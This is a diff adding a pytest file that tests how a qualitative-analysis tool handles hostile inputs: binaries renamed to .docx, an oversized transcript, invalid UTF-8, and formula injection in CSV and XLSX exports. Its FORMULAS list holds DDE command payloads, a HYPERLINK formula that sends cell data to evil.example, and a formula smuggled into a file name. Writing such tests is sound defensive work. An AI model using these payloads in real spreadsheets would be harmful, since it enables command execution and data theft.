@@ -1,0 +1,229 @@
+"""Hand-picked hostile files: a renamed binary, a 200 MB transcript, broken UTF-8, spreadsheet formulas.
+
+Zip-slip, bombs, billion laughs and external entities in .qdpx archives are in
+``test_refi_hostile.py``; YAML alias bombs in ``test_codebook_files.py``.
+"""
+
+from __future__ import annotations
+
+import csv
+import gzip
+import tracemalloc
+import zipfile
+
+import pytest
+
+from evalbench.codebook import CodebookError, load_codebook
+from evalbench.errors import IngestError, UserError
+from evalbench.ingest import parse_file
+from evalbench.ingest.files import DEFAULT_MAX_BYTES
+from evalbench.project import Project
+
+# --- a .docx that is really something else ---------------------------------------------------
+_BINARIES = {
+    "png": b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR\x00\x00\x00\x10" + bytes(range(256)) * 4,
+    "elf": b"\x7fELF\x02\x01\x01\x00" + b"\x00" * 8 + bytes(range(256)) * 4,
+    "pdf": b"%PDF-1.7\n1 0 obj << /Type /Catalog >> endobj\n%%EOF\n",
+    "gzip": gzip.compress(b"Interviewer: hello\n" * 100),
+    "text": b"Interviewer: this is plain text saved with the wrong extension\nP1: yes\n",
+}
+
+
+@pytest.mark.parametrize("kind", sorted(_BINARIES))
+def test_docx_that_is_a_renamed_binary_is_refused_in_one_line(tmp_path, kind):
+    path = tmp_path / "interview.docx"
+    path.write_bytes(_BINARIES[kind])
+    with pytest.raises(IngestError) as info:
+        parse_file(path)
+    assert str(info.value).startswith("interview.docx: ")
+    assert "\n" not in str(info.value)
+
+
+def test_xlsx_renamed_to_docx_is_refused(tmp_path):
+    """A real Office zip of the wrong kind (a spreadsheet) is not a Word transcript."""
+    path = tmp_path / "interview.docx"
+    with zipfile.ZipFile(path, "w") as zf:
+        zf.writestr("[Content_Types].xml", "<Types/>")
+        zf.writestr("xl/workbook.xml", "<workbook/>")
+    with pytest.raises(IngestError, match=r"^interview\.docx: corrupt Word file"):
+        parse_file(path)
+
+
+def test_folder_import_with_a_renamed_binary_keeps_the_good_files(tmp_path):
+    folder = tmp_path / "in"
+    folder.mkdir()
+    (folder / "a.txt").write_text("Interviewer: What helped?\nP01: The huddles helped.\n")
+    (folder / "b.docx").write_bytes(_BINARIES["elf"])
+    with Project.init(tmp_path / "p.evb") as proj:
+        report = proj.import_paths([folder])
+        assert report.imported == ["a.txt"]
+        assert [name for name, _ in report.failed] == ["b.docx"]
+        assert [d.name for d in proj.documents()] == ["a.txt"]
+
+
+# --- a 200 MB transcript -----------------------------------------------------------------------
+def _huge(path, size=200 * 1024 * 1024):
+    with open(path, "wb") as fh:  # sparse: no disk blocks, written instantly
+        fh.truncate(size)
+    return path
+
+
+def test_200_mb_text_file_is_refused_by_its_size_without_being_read(tmp_path, monkeypatch):
+    path = _huge(tmp_path / "huge.txt")
+    assert path.stat().st_size > DEFAULT_MAX_BYTES
+    tracemalloc.start()
+    try:
+        with pytest.raises(IngestError, match=r"^huge\.txt: file is 209\.7 MB, over the 50 MB limit"):
+            parse_file(path)
+        _, peak = tracemalloc.get_traced_memory()
+    finally:
+        tracemalloc.stop()
+    assert peak < 5 * 1024 * 1024, f"refusing the file allocated {peak / 1e6:.0f} MB"
+
+
+def test_200_mb_file_in_a_folder_import_fails_alone(tmp_path):
+    folder = tmp_path / "in"
+    folder.mkdir()
+    _huge(folder / "huge.vtt")
+    (folder / "ok.txt").write_text("Interviewer: What helped?\nP01: Leaders came to the huddles.\n")
+    with Project.init(tmp_path / "p.evb") as proj:
+        report = proj.import_paths([folder])
+        assert report.imported == ["ok.txt"]
+        assert report.failed and report.failed[0][0] == "huge.vtt" and "MB limit" in report.failed[0][1]
+
+
+# --- invalid UTF-8 ----------------------------------------------------------------------------
+_BROKEN_UTF8 = ("Interviewer: What got in the way?\nP01: caf\u00e9 and na\u00efve ".encode()
+                + b"\xff\xfe\xc3\x28 \xe2\x82 \xed\xa0\x80 overlong \xc0\xaf and \x81\x8d\x8f\x90\x9d end\n")
+
+
+def test_invalid_utf8_transcript_imports_without_losing_text(tmp_path):
+    """Bytes that are not UTF-8 fall back to a single-byte decoding: nothing dropped, nothing replaced."""
+    path = tmp_path / "broken.txt"
+    path.write_bytes(_BROKEN_UTF8)
+    doc = parse_file(path)
+    assert "\ufffd" not in doc.text
+    assert doc.text.endswith("end")
+    assert [doc.text[t.start:t.end][:4] for t in doc.turns] == ["What", "caf\u00c3"]
+
+
+def test_invalid_utf8_with_a_forced_encoding_names_the_byte(tmp_path):
+    path = tmp_path / "broken.txt"
+    path.write_bytes(_BROKEN_UTF8)
+    with pytest.raises(IngestError, match=r"^broken\.txt: cannot be decoded as utf-8 \(byte \d+"):
+        parse_file(path, encoding="utf-8")
+
+
+def test_invalid_utf8_codebook_is_refused_in_one_line(tmp_path):
+    path = tmp_path / "codebook.yaml"
+    path.write_bytes(b"evalbench_codebook: 1\ncodes:\n  - id: a\n    name: caf\xe9\xff\n")
+    with pytest.raises(CodebookError, match=r"codebook\.yaml: not UTF-8 text \(byte \d+\)"):
+        load_codebook(path)
+
+
+def test_utf8_bom_with_invalid_bytes_is_refused(tmp_path):
+    path = tmp_path / "bom.txt"
+    path.write_bytes(b"\xef\xbb\xbfInterviewer: hi\nP1: \xff\xfe\n")
+    with pytest.raises(IngestError, match=r"^bom\.txt: has a utf-8 byte-order mark but invalid utf-8"):
+        parse_file(path)
+
+
+# --- formulas in transcripts and memos must not run in a spreadsheet ------------------------------
+FORMULAS = ["=cmd|' /C calc'!A0", "+SUM(1,2)", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0",
+            "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")"]
+
+
+@pytest.fixture
+def formula_project(tmp_path):
+    """A transcript whose participant turns are formulas, coded with formula memos."""
+    path = tmp_path / "in" / "=evil.txt"
+    path.parent.mkdir()
+    lines = ["Interviewer: What would you type into Excel?"]
+    lines += [f"P01: {f}" if i % 2 == 0 else f"Interviewer: {f}" for i, f in enumerate(FORMULAS)]
+    path.write_text("\n".join(lines) + "\n", encoding="utf-8")
+    proj = Project.init(tmp_path / "study.evb", coder="alex")
+    proj.add_codes(load_codebook_codes())
+    report = proj.import_paths([path])
+    assert report.ok, report.failed
+    doc = proj.documents()[0]
+    for turn in proj.turns(doc.id):
+        text = proj.document_text(doc.id)[turn.start:turn.end]
+        if text in FORMULAS:
+            proj.add_coding(doc.id, turn.start, turn.end, "cfir2.inner.culture", valence="barrier",
+                            memo=FORMULAS[(FORMULAS.index(text) + 1) % len(FORMULAS)])
+    assert len(proj.codings()) == len(FORMULAS)
+    yield proj
+    proj.close()
+
+
+def load_codebook_codes():
+    from evalbench.codebook import load_codebook_source
+
+    return load_codebook_source("cfir2")
+
+
+def _is_escaped(value) -> bool:
+    return not (isinstance(value, str) and value.startswith(("=", "+", "-", "@", "\t", "\r")))
+
+
+def test_formulas_are_escaped_in_the_xlsx_export(formula_project, tmp_path):
+    from openpyxl import load_workbook
+
+    out = formula_project.export("xlsx", tmp_path / "report.xlsx")
+    wb = load_workbook(out)
+    seen = []
+    for ws in wb.worksheets:
+        for row in ws.iter_rows():
+            for cell in row:
+                assert cell.data_type != "f", f"{ws.title}!{cell.coordinate} is a formula: {cell.value!r}"
+                assert _is_escaped(cell.value), f"{ws.title}!{cell.coordinate}: {cell.value!r}"
+                if isinstance(cell.value, str) and cell.value.lstrip("'") in FORMULAS:
+                    seen.append(cell.value)
+    # every excerpt text and every memo is there, escaped and otherwise unchanged
+    assert sorted(v[1:] for v in seen) == sorted(FORMULAS * 2)
+    names = {c.value for c in wb["Excerpts"]["A"]}
+    assert "'=evil.txt" in names
+
+
+def test_formulas_are_escaped_in_the_csv_export(formula_project, tmp_path):
+    out = formula_project.export("csv", tmp_path / "report.csv")
+    files = sorted(tmp_path.glob("report*.csv"))
+    assert out in files and len(files) >= 3
+    seen = []
+    for path in files:
+        with open(path, encoding="utf-8-sig", newline="") as fh:
+            for row in csv.reader(fh):
+                for value in row:
+                    assert _is_escaped(value), f"{path.name}: {value!r}"
+                    if value.lstrip("'") in FORMULAS:
+                        seen.append(value)
+    assert sorted(v[1:] for v in seen) == sorted(FORMULAS * 2)
+
+
+def test_formulas_in_a_bulk_coding_sheet_stay_text(formula_project, tmp_path):
+    """Codings loaded from a spreadsheet keep a formula memo as text, and export it escaped."""
+    sheet = tmp_path / "codings.csv"
+    with open(sheet, "w", newline="", encoding="utf-8") as fh:
+        w = csv.writer(fh)
+        w.writerow(["document", "quote", "code", "coder", "valence", "memo"])
+        w.writerow(["=evil.txt", "What would you type", "cfir2.inner.culture", "sam", "neutral", "=1+1"])
+    assert formula_project.code_from_csv(sheet) == 1
+    assert [c.memo for c in formula_project.codings(coder="sam")] == ["=1+1"]
+    out = formula_project.export("csv", tmp_path / "again.csv")
+    text = out.read_text(encoding="utf-8-sig")
+    assert "'=1+1" in text and ",=1+1" not in text
+
+
+def test_hostile_codebook_text_is_escaped_in_the_codebook_sheet(tmp_path, project):
+    from openpyxl import load_workbook
+
+    project.update_code("inner.priority", definition="=cmd|' /C calc'!A0", keywords=["@evil"])
+    wb = load_workbook(project.export("xlsx", tmp_path / "r.xlsx"))
+    values = [c.value for row in wb["Codebook"].iter_rows() for c in row]
+    assert "'=cmd|' /C calc'!A0" in values and "'@evil" in values
+    assert all(_is_escaped(v) for v in values)
+
+
+def test_user_errors_are_the_only_failures_for_a_bad_export_target(project, tmp_path):
+    with pytest.raises(UserError):
+        project.export("xlsx", tmp_path / "missing-folder" / "r.xlsx")
